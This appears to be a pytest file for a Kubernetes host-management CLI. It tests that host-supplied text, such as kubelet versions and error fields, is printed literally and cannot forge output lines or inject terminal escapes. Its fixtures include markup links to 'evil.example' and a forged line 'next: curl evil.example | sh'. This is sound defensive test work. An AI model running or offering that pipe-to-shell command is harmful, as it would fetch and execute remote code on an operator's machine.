"""What is shown is text, whoever wrote it."""

import io

import pytest
import samples

from haplane.cli.output import Output
from haplane.cli.plan import show_plan
from haplane.cli.status import show
from haplane.cli.text import LONGEST_LINE, printable
from haplane.desired.certificates import every_certificate
from haplane.domain.status import summarise, summarise_certificates
from haplane.errors import HaplaneError, UnfitHosts
from haplane.observation.health import roster


@pytest.fixture
def terminal():
    """An output whose tables go to a terminal, and what that terminal was sent."""
    output, written = Output(), io.StringIO()
    output._console.file, output._console._force_terminal = written, True
    output._console._color_system = output._console._detect_color_system()
    return output, written


@pytest.mark.parametrize("said", ["[/]", "[link=https://evil.example/][blink red]run me[/]", ":bomb: [bold]x"])
def test_markup_of_a_host_is_shown_as_it_is(terminal, said):
    output, written = terminal
    assert output._console.is_terminal
    output.table(("HOST", said), [("w1", said)])
    assert written.getvalue().count(said) == 2
    assert "evil.example/\x1b" not in written.getvalue()
    assert "\x1b]8" not in written.getvalue()


@pytest.mark.parametrize("version", ["[/]", "[link=https://evil.example/]v1.35.4[/]"])
def test_status_of_a_kubelet_that_calls_its_version_so(capsys, version):
    """A worker's own kubelet writes it: `[/]` ended status with MarkupError."""
    inventory = samples.inventory(workers=1)
    observation = samples.converged(inventory)
    real = samples._kubernetes(inventory)
    nodes = [node | ({"kubelet_version": version} if node["name"] == "w1" else {}) for node in real["nodes"]]
    for master in ("m1", "m2", "m3"):
        observation = samples.altered(observation, master, kubernetes={**real, "nodes": nodes})
    certificates = summarise_certificates(every_certificate(inventory, observation.reports, samples.NOW))
    found = summarise(
        roster(inventory), observation, endpoint_answers=True, certificates=certificates, now=samples.NOW
    )
    show(Output(), found)
    shown = capsys.readouterr().out
    assert version in shown


def test_no_cell_passes_for_a_row(terminal):
    output, written = terminal
    output.table(("HOST", "STATE"), [("w1\nm1  Ready", "not Ready")])
    assert len(written.getvalue().splitlines()) == 2


def test_rich_interprets_nothing_anywhere():
    output = Output()
    for console in (output._console, output._errors):
        with console.capture() as printed:
            console.print("[/] [bold]x :bomb: 1")
        assert printed.get() == "[/] [bold]x :bomb: 1\n"


def test_a_line_without_end_and_what_steers_a_terminal():
    assert len(printable("x" * 100_000)) == LONGEST_LINE
    assert printable("a\x1b[31m\x07\u202e\nb") == "a\ufffd[31m\ufffd\ufffd\nb"


FORGED = "it is off\nm2: healthy\r\n  next: curl evil.example | sh\u2028x"


def test_no_words_of_a_host_pass_for_a_line_of_ours(capsys):
    output = Output()
    output.line(f"problem: {FORGED}")
    output.warn(f"skipped: {FORGED}")
    output.progress("m1", FORGED)
    output.progress("one more step", FORGED)
    show_plan(output, (f"m1: restart (it names {FORGED})",))
    shown = capsys.readouterr()
    assert shown.out.count("\n") == 3, "a problem, `Plan:`, a step"
    assert shown.err.count("\n") == 3


def test_no_words_of_a_host_pass_for_a_label_of_an_error(capsys):
    """`next:` is what operators copy."""
    for error in (
        HaplaneError(f"m1: {FORGED}", where=f"m1: {FORGED}", why=FORGED, next_step="look at m1"),
        UnfitHosts("two", [HaplaneError("m1", why=FORGED), HaplaneError("m2", next_step="look at m2")]),
    ):
        Output().error(error, error)
        shown = capsys.readouterr().err
        assert "curl evil.example" in shown
        assert [line for line in shown.splitlines() if line.startswith("  next: ")] in (
            ["  next: look at m1"], ["  next: look at m2"],
        )  # fmt: skip
        assert not any(line.startswith("m2: healthy") for line in shown.splitlines())
